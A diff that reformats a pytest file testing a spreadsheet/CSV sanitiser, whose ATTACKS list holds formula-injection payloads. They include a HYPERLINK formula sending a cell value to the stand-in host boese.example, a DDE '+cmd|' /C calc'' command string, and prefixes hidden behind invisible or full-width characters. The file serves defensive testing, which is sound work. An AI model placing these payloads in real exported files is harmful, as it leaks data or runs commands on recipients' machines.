@@ -8,11 +8,27 @@ import pytest
 
 from zwk_network.spreadsheet import restored_cell, spreadsheet_cell, spreadsheet_csv
 
-ATTACKS = ['=HYPERLINK("http://boese.example/?"&A1,"Klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
-           "-2+3", "\t=1+1", "\r=1+1",
-           # after spaces or invisible characters, and in full-width or small forms
-           " =1+1", "\u00a0+1", "\n=1+1", "\u200b=1+1", "\ufeff@SUM(1)", "\u2060\u200d-1",
-           "＝1+1", "＋cmd|' /C calc'!A0", "－1", "＠SUM(1)", "﹦1+1", "\u200b＝1"]  # fmt: skip
+ATTACKS = [
+    '=HYPERLINK("http://boese.example/?"&A1,"Klick")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    # after spaces or invisible characters, and in full-width or small forms
+    " =1+1",
+    "\u00a0+1",
+    "\n=1+1",
+    "\u200b=1+1",
+    "\ufeff@SUM(1)",
+    "\u2060\u200d-1",
+    "＝1+1",
+    "＋cmd|' /C calc'!A0",
+    "－1",
+    "＠SUM(1)",
+    "﹦1+1",
+    "\u200b＝1",
+]
 ODD_BUT_HARMLESS = [
     "'s-Hertogenbosch",
     "'",
@@ -48,8 +64,14 @@ def test_after_a_semicolon_or_a_line_break_too():
 
 def test_numbers_and_plain_text_stay_as_they_are():
     assert [spreadsheet_cell(v) for v in (-3, -12.25, 0, 40, None, "Erika Muster", "'s-Hertogenbosch")] == [
-        -3, -12.25, 0, 40, "", "Erika Muster", "'s-Hertogenbosch"
-    ]  # fmt: skip
+        -3,
+        -12.25,
+        0,
+        40,
+        "",
+        "Erika Muster",
+        "'s-Hertogenbosch",
+    ]
 
 
 @pytest.mark.parametrize("text", ATTACKS + ODD_BUT_HARMLESS)
